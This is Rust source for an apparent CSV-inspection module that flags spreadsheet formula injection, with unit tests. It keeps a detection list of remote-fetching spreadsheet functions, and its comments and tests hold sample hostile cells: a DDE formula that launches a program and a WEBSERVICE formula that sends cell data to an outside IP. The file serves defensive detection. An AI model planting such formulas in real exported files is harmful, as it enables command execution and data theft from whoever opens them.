//! A CSV file opened in a spreadsheet program: a cell that starts with `=`
//! (or `+`, `-`, `@` before a name) is run as a formula. `=cmd|'/C calc'!A0`
//! starts a program (DDE), `=WEBSERVICE(...)` and Google Sheets'
//! `=IMPORTXML(...)` fetch from another computer; any other formula is
//! named in a warning (its result may not be what the file shows).

use super::Report;

/// Functions that fetch from an address when the sheet is calculated.
const FETCHING: &[&str] = &[
    "WEBSERVICE",
    "IMPORTXML",
    "IMPORTDATA",
    "IMPORTHTML",
    "IMPORTFEED",
    "IMPORTRANGE",
    "IMAGE",
    "FILTERXML",
];

/// Formula cells kept in a report, and how many are shown.
const SHOWN: usize = 5;

pub fn inspect(bytes: &[u8]) -> Report {
    let text = String::from_utf8_lossy(bytes);
    let mut report = Report::default();
    for (line, cell) in cells(&text) {
        let Some(formula) = formula(&cell) else {
            continue;
        };
        let upper = formula.to_ascii_uppercase();
        let shown = format!("line {line}: `{}`", clip(formula));
        if upper.contains('|') || upper.contains("DDE(") {
            report
                .macros
                .push(format!("a formula that starts a program, {shown}"));
        } else if let Some(f) = fetching(formula) {
            report
                .fetched
                .push((format!("a {f} formula at line {line}"), clip(formula)));
        } else {
            if report.formulas.is_empty() {
                report.first_line = line;
            }
            if report.formulas.len() < SHOWN {
                report.formulas.push(shown);
            }
            report.formula_count += 1;
        }
    }
    report
}

/// The function of `FETCHING` that `formula` calls, if any: also under a
/// prefix (Excel's `_xlfn.IMAGE(`, LibreOffice's
/// `COM.MICROSOFT.WEBSERVICE(`), in any case.
pub(super) fn fetching(formula: &str) -> Option<&'static str> {
    let upper = formula.to_ascii_uppercase();
    FETCHING
        .iter()
        .find(|f| upper.contains(&format!("{f}(")))
        .copied()
}

/// The formula a cell's text holds: what follows `=`, or a `+`, `-` or `@`
/// before a letter (`-2` and `+234 800 123 4567` are numbers).
fn formula(cell: &str) -> Option<&str> {
    let t = cell.trim_start_matches([' ', '\t', '\r']);
    let mut chars = t.chars();
    match chars.next()? {
        '=' if t.len() > 1 => Some(t),
        '+' | '-' | '@' if chars.next().is_some_and(|c| c.is_alphabetic()) => Some(t),
        _ => None,
    }
}

/// At most 60 characters of a formula, for a message.
pub(super) fn clip(f: &str) -> String {
    let f = f.trim();
    match f.char_indices().nth(60) {
        Some((i, _)) => format!("{}…", &f[..i]),
        None => f.to_string(),
    }
}

/// Each cell's text with the line it starts on; cells are separated by
/// what the first line is separated by most: `,`, `;` (as spreadsheet
/// programs write CSV where the decimal mark is a comma) or tabs.
fn cells(text: &str) -> Vec<(usize, String)> {
    let first = text.lines().next().unwrap_or("");
    let sep = [b',', b';', b'\t']
        .into_iter()
        .max_by_key(|c| (first.bytes().filter(|b| b == c).count(), *c == b','))
        .unwrap_or(b',');
    let mut out = Vec::new();
    let mut line = 1;
    let mut start = 0;
    let mut start_line = 1;
    let mut quoted = false;
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if b == b'"' && (quoted || i == start) {
            if quoted && bytes.get(i + 1) == Some(&b'"') {
                i += 2;
                continue;
            }
            quoted = !quoted;
        } else if !quoted && (b == sep || b == b'\n') {
            out.push((start_line, unquote(&text[start..i])));
            start = i + 1;
            start_line = line + usize::from(b == b'\n');
        }
        if b == b'\n' {
            line += 1;
        }
        i += 1;
    }
    if start < bytes.len() {
        out.push((start_line, unquote(&text[start..])));
    }
    out
}

/// A cell's text: a quoted one without its quotes, `""` read as `"`.
fn unquote(cell: &str) -> String {
    let cell = cell.strip_suffix('\r').unwrap_or(cell);
    match cell.strip_prefix('"') {
        Some(inner) => inner
            .strip_suffix('"')
            .unwrap_or(inner)
            .replace("\"\"", "\""),
        None => cell.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_that_run_or_fetch_and_numbers_that_do_not() {
        let csv = "name,phone,note\n\
                   Amina,+234 800 123 4567,-2\n\
                   \"Shelter, north\",\"=cmd|' /C calc'!A0\",ok\n\
                   x,=WEBSERVICE(\"https://203.0.113.9/?d=\"&A2),y\n\
                   \"multi\nline\",=SUM(A1:A3),@SUM(1)\n\
                   a,\"=\"\"quoted\"\"\",b\n";
        let r = inspect(csv.as_bytes());
        assert_eq!(
            r.macros,
            ["a formula that starts a program, line 3: `=cmd|' /C calc'!A0`"]
        );
        assert_eq!(r.fetched.len(), 1, "{:?}", r.fetched);
        assert_eq!(r.fetched[0].0, "a WEBSERVICE formula at line 4");
        assert!(
            r.fetched[0]
                .1
                .starts_with("=WEBSERVICE(\"https://203.0.113.9/"),
            "{:?}",
            r.fetched
        );
        assert_eq!(
            r.formulas,
            [
                "line 6: `=SUM(A1:A3)`",
                "line 6: `@SUM(1)`",
                "line 7: `=\"quoted\"`"
            ]
        );
        assert_eq!((r.first_line, r.formula_count), (6, 3));
    }

    #[test]
    fn plain_data_says_nothing() {
        let csv = "date,count,change\n2024-01-03,12,-3\n2024-01-04,=,+\n";
        assert_eq!(inspect(csv.as_bytes()), Report::default());
    }
}

#[cfg(test)]
mod separators {
    use super::*;

    #[test]
    fn semicolons_separate_where_the_first_line_uses_them() {
        let r = inspect("a;b\n1,5;=SUM(1,2)\n".as_bytes());
        assert_eq!(r.formulas, ["line 2: `=SUM(1,2)`"]);
        let r = inspect("a,b\n1;5,=SUM(1;2)\n".as_bytes());
        assert_eq!(r.formulas, ["line 2: `=SUM(1;2)`"]);
    }
}
